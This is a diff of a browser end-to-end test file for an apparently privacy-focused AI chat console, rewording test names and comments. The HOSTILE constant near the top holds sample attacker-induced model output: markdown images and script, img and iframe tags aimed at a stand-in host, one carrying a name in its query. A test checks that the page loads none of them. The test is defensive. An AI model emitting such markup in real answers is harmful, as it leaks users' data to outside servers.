@@ -12,7 +12,7 @@ import { StartScene } from '../support/start';
 const FIRST_SCREEN_BYTES = 250 * 1024;
 const ELSEWHERE = 'https://elsewhere.example';
 
-/** What a model may be made to write, so that whoever reads it carries data out. */
+/** Output of a model under an attacker's control that makes a browser send data to another server. */
 const HOSTILE = [
   `![picture](${ELSEWHERE}/a?q=NAME)`,
   `<img src="${ELSEWHERE}/b"><script src="${ELSEWHERE}/c"></script><iframe src="${ELSEWHERE}/d"></iframe>`,
@@ -21,13 +21,13 @@ const HOSTILE = [
   `[ref]: ${ELSEWHERE}/i\n\n![x][ref]`,
 ].join('\n\n');
 
-/** Of single sign-on, which nobody asks before somebody presses its button. */
+/** Single sign-on settings. The service contacts the provider only after a user presses the button. */
 const PROVIDER = {
   OIDC_ISSUER: 'https://login.company.example',
   OIDC_CLIENT_ID: 'console',
   OIDC_ORGANIZATION_CLAIM: 'organization',
 };
-/** A failure as the service answers with it. */
+/** Returns a failure as the service answers with it. */
 const failed = (code: string, headers: Record<string, string>): ScriptedAnswer => ({
   status: 502,
   headers: { 'X-Error-Code': code, ...headers },
@@ -83,17 +83,17 @@ const UNPROTECTED_CALLS = {
   next_cursor: null,
 };
 
-/** As long as there is something to be understood of it. */
+/** Length of the recording, long enough for a transcription. */
 const SPOKEN_MS = 1_500;
 
-/** Run in the page. */
+/** Runs in the page. */
 const linksOf = (links: unknown): { href: string; rel: string }[] =>
   (links as { href: string; rel: string }[]).map(({ href, rel }) => ({ href, rel }));
 
 inBrowser('the console, as npm start serves it', () => {
   let scene: StartScene;
   let speech: SpeechServer;
-  /** Makes images. */
+  /** Serves images. */
   let upstream: Upstream;
   let browser: Browser;
   let visitor: Visitor;
@@ -124,7 +124,7 @@ inBrowser('the console, as npm start serves it', () => {
         TRANSCRIPTION_BASE_URL: speech.baseUrl,
         IMAGE_BASE_URL: upstream.baseUrl,
         ...PROVIDER,
-        // In tests a start costs half as much.
+        // Lower hashing cost that halves the start time.
         DETECTION_THREADS: '1',
         NODE_OPTIONS: '',
       })
@@ -142,7 +142,7 @@ inBrowser('the console, as npm start serves it', () => {
     await scene?.stop();
   });
   afterEach(() => {
-    // No request leaves the origin, no policy is broken, nothing is thrown: whatever a test did.
+    // Checks after each test: no request left the origin, no policy was violated, no error was thrown.
     expect(visitor.wrong).toEqual([]);
   });
 
@@ -156,7 +156,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.locator('article.turn:not([aria-busy])').nth(turns).locator('.answer').waitFor();
   };
 
-  it('lets the demo user in, and shows in a first chat what was hidden and what came back [PRIV-45]', async () => {
+  it('logs the demo user in, and shows for a first chat what was hidden and restored [PRIV-45]', async () => {
     const bytes = await visitor.transferred(async () => {
       await visitor.open('/');
       const signOn = page.getByRole('link', { name: 'Log in with single sign-on' });
@@ -184,7 +184,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/);
   });
 
-  it('opens a conversation by its address again, renames it, finds it, and deletes it after asking', async () => {
+  it('opens a conversation by its address, renames it, finds it, and deletes it after a confirmation', async () => {
     await page.reload();
     await page.locator('.answer', { hasText: 'Hans Müller' }).waitFor();
     const menu = page.getByRole('button', { name: /^Actions for Write to/ });
@@ -205,7 +205,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.getByRole('searchbox').fill('');
   });
 
-  it('leaves a false match unchanged, and hides a missed word, for one chat', async () => {
+  it('leaves a false match unchanged and hides a missed word, for one chat', async () => {
     const prompt = 'Ask Hans Müller about the wombat.';
     const input = page.locator('.composer textarea');
     await input.fill(prompt);
@@ -222,7 +222,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(sent).not.toContain('wombat');
   });
 
-  it('sends a document along, and says so', async () => {
+  it('sends a document with a prompt and says so', async () => {
     await page.getByRole('link', { name: 'New conversation' }).click();
     const content = Buffer.from('The contract with Petra Sommer ends in June.');
     await page
@@ -240,7 +240,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await textOf('.sent')).toContain('Also sent: 1 passage of documents');
   });
 
-  it('keeps what is written over other screens, a reload and an expired session', async () => {
+  it('keeps a draft while the user visits other screens, reloads the page or logs in again', async () => {
     const input = page.locator('.composer textarea');
     await page.getByRole('link', { name: 'New conversation' }).click();
     await input.fill('A draft about Petra Sommer');
@@ -266,7 +266,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.focus()).toBe('Your message');
   });
 
-  it('shows when protection is off, at every width, and asks before it is turned off for one conversation', async () => {
+  it('shows when protection is off, at every width, and asks before turning it off for one conversation', async () => {
     await page.getByRole('link', { name: 'New conversation' }).click();
     await page.locator('.composer textarea').fill('Write to Hans Müller.');
     await page.getByRole('button', { name: 'Protected', exact: true }).click();
@@ -292,7 +292,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.getByRole('button', { name: 'Protected', exact: true }).waitFor();
   });
 
-  it('marks the values that the chosen kinds do not hide', async () => {
+  it('highlights values that the chosen kinds do not hide', async () => {
     await page.locator('.composer textarea').fill('Write to Hans Müller, hans.mueller@firma.de.');
     await page.getByRole('button', { name: 'Protected', exact: true }).click();
     await page.getByRole('checkbox', { name: 'E-mail address' }).click();
@@ -303,7 +303,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.locator('.findings .chip-text', { hasText: 'Hans Müller' }).waitFor();
   });
 
-  it('leaves nothing to the next person at the browser, who starts protected', async () => {
+  it('leaves no data for the next user of the browser, who starts protected', async () => {
     const stored = () => page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })');
     expect(await stored()).toContain('Hans Müller');
     await visitor.logOut(login.userName);
@@ -314,7 +314,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.focus()).toBe('Your message');
   });
 
-  it('offers no way to turn protection off if the policy does not allow it', async () => {
+  it('offers no way to turn protection off if the policy forbids it', async () => {
     await page.route('**/ai/v1/kinds', async (route) => {
       const answer = await route.fetch();
       await route.fulfill({ json: { ...((await answer.json()) as object), allow_unprotected: false } });
@@ -328,7 +328,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.reload();
   });
 
-  it('says in German and without English what a provider did, and sends again in one click', async () => {
+  it('explains provider failures in German only, and sends again with one click', async () => {
     const german = await Visitor.at(browser, origin, { locale: 'de-DE' });
     const sentence = 'The language model failed; try again later';
     await german.open('/chat');
@@ -362,7 +362,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await german.faults()).toEqual([]);
     await german.page.getByText('Einzelheiten für Administratoren').first().click();
     await german.page.getByText(sentence).waitFor();
-    // Each of the four is still there, and the first of them is sent again.
+    // All four failures are still shown, and the first prompt can be sent again.
     await german.page.getByRole('button', { name: 'Noch einmal', exact: true }).first().click();
     await german.page.locator('.answer', { hasText: 'Nachricht 0' }).waitFor();
     expect(await german.focus()).toBe('Ihre Nachricht');
@@ -371,7 +371,7 @@ inBrowser('the console, as npm start serves it', () => {
     await german.leave();
   });
 
-  it('gives a prompt back that is stopped before the answer begins, and keeps an answer that is stopped later', async () => {
+  it('returns a prompt to the input if the user stops before the answer begins, and keeps a partial answer otherwise', async () => {
     const input = page.locator('.composer textarea');
     const stop = page.getByRole('button', { name: 'Stop' });
     await page.getByRole('link', { name: 'New conversation' }).click();
@@ -408,7 +408,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.unroute(`**/ai/v1/history/${STOPPED_CHAT}*`);
   });
 
-  it('continues an answer that was cut, and shows both parts as one text', async () => {
+  it('continues an answer that was cut off, and shows both parts as one text', async () => {
     const turn = {
       ...STOPPED_HISTORY.data.prompts[0]!,
       stopped: undefined,
@@ -454,7 +454,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.unroute(path);
   });
 
-  it('makes an image of a description without anybody in it, and keeps it here', async () => {
+  it('creates an image from a description without its names, and stores it in this service', async () => {
     await page.getByRole('link', { name: 'New conversation' }).click();
     await page.getByRole('button', { name: 'Create an image' }).click();
     await page.locator('.composer textarea').fill('Hans Müller on a red bicycle');
@@ -471,7 +471,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(JSON.stringify(upstream.requests) + (await textOf('.sent .pre'))).not.toContain('Müller');
   });
 
-  it('turns what somebody says into text of their message', async () => {
+  it('turns speech into text of a message', async () => {
     await page.getByRole('link', { name: 'New conversation' }).click();
     await page.getByRole('button', { name: 'Speak' }).click();
     await page.getByRole('button', { name: 'End recording' }).waitFor();
@@ -485,7 +485,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(speech.requests.at(-1)!.file.length).toBeGreaterThan(16_000 * 2);
   });
 
-  it('loads nothing that an answer names, and shows where its links go [SEC-39]', async () => {
+  it('loads nothing that an answer references, and shows the targets of its links [SEC-39]', async () => {
     await page.getByRole('link', { name: 'New conversation' }).click();
     await send(HOSTILE);
     const answer = page.locator('.answer');
@@ -495,7 +495,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await answer.textContent()).toContain(`${ELSEWHERE}/h`);
   });
 
-  it('takes personal data out of a text', async () => {
+  it('removes personal data from a text', async () => {
     await visitor.follow('/anonymize');
     await page.getByLabel('Text', { exact: true }).fill('Anna Schmidt, anna.schmidt@firma.de');
     await page.getByRole('button', { name: 'Anonymize' }).click();
@@ -504,7 +504,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('a new policy has its effect: what it blocks cannot be sent', async () => {
+  it('applies a new policy: a prompt with blocked values cannot be sent', async () => {
     await visitor.follow('/privacy');
     await page.getByLabel('E-mail address, External models').selectOption('block');
     await page.getByText('This text would be refused.').waitFor();
@@ -520,7 +520,7 @@ inBrowser('the console, as npm start serves it', () => {
     await visitor.follow('/chat');
     let tries = 0;
     await eventually(async () => {
-      // What was asked before is not asked again.
+      // The page does not ask again for confirmations that it already got.
       await page.locator('.composer textarea').fill(`Write to ann${++tries}@firma.de`);
       await page.getByText('Your organization does not allow this to be sent').waitFor({ timeout: 2_000 });
     }, 30_000);
@@ -531,7 +531,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.getByText('Version 2').waitFor();
   });
 
-  it('makes a key, which opens what it is for until it is revoked', async () => {
+  it('creates a key that works within its scopes until it is revoked', async () => {
     await visitor.follow('/keys');
     await page.getByRole('button', { name: 'New key' }).click();
     await page.getByLabel('Name').fill('Reports');
@@ -548,7 +548,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('sets a budget, says in the chat what to do when it is used up, and removes it after asking', async () => {
+  it('sets a budget, shows in the chat what to do when it is used up, and removes it after a confirmation', async () => {
     await visitor.follow('/usage');
     await page.getByRole('tab', { name: 'Budgets' }).click();
     await page.getByRole('button', { name: 'New budget' }).click();
@@ -575,7 +575,7 @@ inBrowser('the console, as npm start serves it', () => {
     await page.getByText('No budgets: usage is not limited.').waitFor();
   });
 
-  it('shows a delivery that failed, and delivers it again', async () => {
+  it('shows a failed delivery and redelivers it', async () => {
     await submitJob();
     await visitor.follow('/jobs');
     const job = page.getByRole('row', { name: /^Anonymization/ });
@@ -585,7 +585,7 @@ inBrowser('the console, as npm start serves it', () => {
     [answer, received] = [200, 0];
     await dialog.getByRole('button', { name: 'Deliver again' }).click();
     await eventually(() => expect(received).toBe(1));
-    // The dialog grows with what it says of the new attempt: a click may miss the button that moves.
+    // The dialog grows with the result of the new attempt, so that a click can miss the button while it moves.
     await eventually(async () => {
       await dialog.getByRole('button', { name: 'Close' }).click({ timeout: 1_000 });
       await dialog.waitFor({ state: 'detached', timeout: 1_000 });
@@ -597,7 +597,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('sends a test event to the webhook of the organization, and shows what came of it', async () => {
+  it("sends a test event to the organization's webhook and shows the result", async () => {
     await visitor.follow('/jobs');
     await page.getByRole('tab', { name: 'Webhook' }).click();
     answer = 200;
@@ -610,7 +610,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('says that the audit trail is whole', async () => {
+  it('reports that the audit trail is intact', async () => {
     await visitor.follow('/audit');
     await page.getByRole('button', { name: 'Verify' }).click();
     await page.getByText('The audit trail is complete').waitFor();
@@ -636,7 +636,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('has a recording transcribed, and waits for the result itself', async () => {
+  it('has a recording transcribed and shows the result as soon as it is ready', async () => {
     await visitor.follow('/transcribe');
     await page.locator('input[type=file]').setInputFiles('test/fixtures/speech/librivox-0870.wav');
     await page.getByRole('button', { name: 'Transcribe' }).click();
@@ -644,7 +644,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('comes back to where somebody was when their session ended meanwhile', async () => {
+  it('returns to the screen where the session ended', async () => {
     await visitor.follow('/people');
     await visitor.settled();
     expect(await visitor.faults()).toEqual([]);
@@ -658,7 +658,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  it('opens the documents in a tab of their own', async () => {
+  it('opens the documents in a separate tab', async () => {
     await page.getByRole('button', { name: login.userName }).click();
     const [help] = await Promise.all([
       visitor.context.waitForEvent('page'),
@@ -681,7 +681,7 @@ inBrowser('the console, as npm start serves it', () => {
     await visitor.logIn(login);
   });
 
-  it('lets somebody in with a one-time password, who chooses another, and shows them their own screens alone', async () => {
+  it('logs a user in with a one-time password, makes them choose another, and shows only their own screens', async () => {
     await visitor.follow('/people');
     await page.getByRole('button', { name: 'Add a person' }).click();
     const dialog = page.getByRole('dialog');
@@ -703,7 +703,7 @@ inBrowser('the console, as npm start serves it', () => {
     await other.leave();
   });
 
-  /** By the link that the picture beside it holds too, and out and in again with it. */
+  /** Sets up a second factor with the link that is also in the QR code, then logs out and in with it. */
   async function setUpSecondFactor(other: Visitor, { userName, password }: typeof login): Promise<void> {
     await other.open('/account');
     await other.page.getByRole('button', { name: 'Set up' }).click();
@@ -719,7 +719,7 @@ inBrowser('the console, as npm start serves it', () => {
     await other.page.getByLabel('E-mail address').fill(userName);
     await other.page.getByLabel('Password', { exact: true }).fill(password);
     await other.page.getByRole('button', { name: 'Log in', exact: true }).click();
-    // Each code is good once: the one of the next half minute.
+    // Each code is valid once, so this is the code of the next 30 seconds.
     await other.page
       .getByLabel('Code', { exact: true })
       .fill(app.generate({ timestamp: Date.now() + 30_000 }));
@@ -727,7 +727,7 @@ inBrowser('the console, as npm start serves it', () => {
     await other.page.locator('.shell').waitFor();
   }
 
-  it('lets an auditor read, and change nothing', async () => {
+  it('lets an auditor read and change nothing', async () => {
     const demo = await asDemo();
     const userName = 'auditor@example.com';
     const made = await demo.post<{ data: { one_time_password: string } }>('/admin/v1/users', {
@@ -768,7 +768,7 @@ inBrowser('the console, as npm start serves it', () => {
     await auditor.leave();
   });
 
-  it('answers programs as before, and allows browsers scripts and styles of its own alone [SEC-40]', async () => {
+  it('answers programs as before, and allows browsers only its own scripts and styles [SEC-40]', async () => {
     await visitor.open('/nowhere');
     await page.getByRole('heading', { name: 'No such page' }).waitFor();
     const program = await fetch(`${origin}/nowhere`);
@@ -781,7 +781,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(policy).not.toContain('unsafe');
   });
 
-  it('is the same in German, in the dark, on a phone', async () => {
+  it('is complete in German, in dark mode and on a phone', async () => {
     await visitor.follow('/keys');
     await page.setViewportSize({ width: 360, height: 740 });
     await visitor.prefer({ language: 'de', theme: 'dark' });
@@ -790,7 +790,7 @@ inBrowser('the console, as npm start serves it', () => {
     expect(await visitor.faults()).toEqual([]);
   });
 
-  /** As a program would, by the login of the demo user. */
+  /** Calls as a program does, with the login of the demo user. */
   async function asDemo() {
     const call = async <T>(method: string, path: string, body?: object, token?: string): Promise<T> => {
       const answer = await fetch(origin + path, {
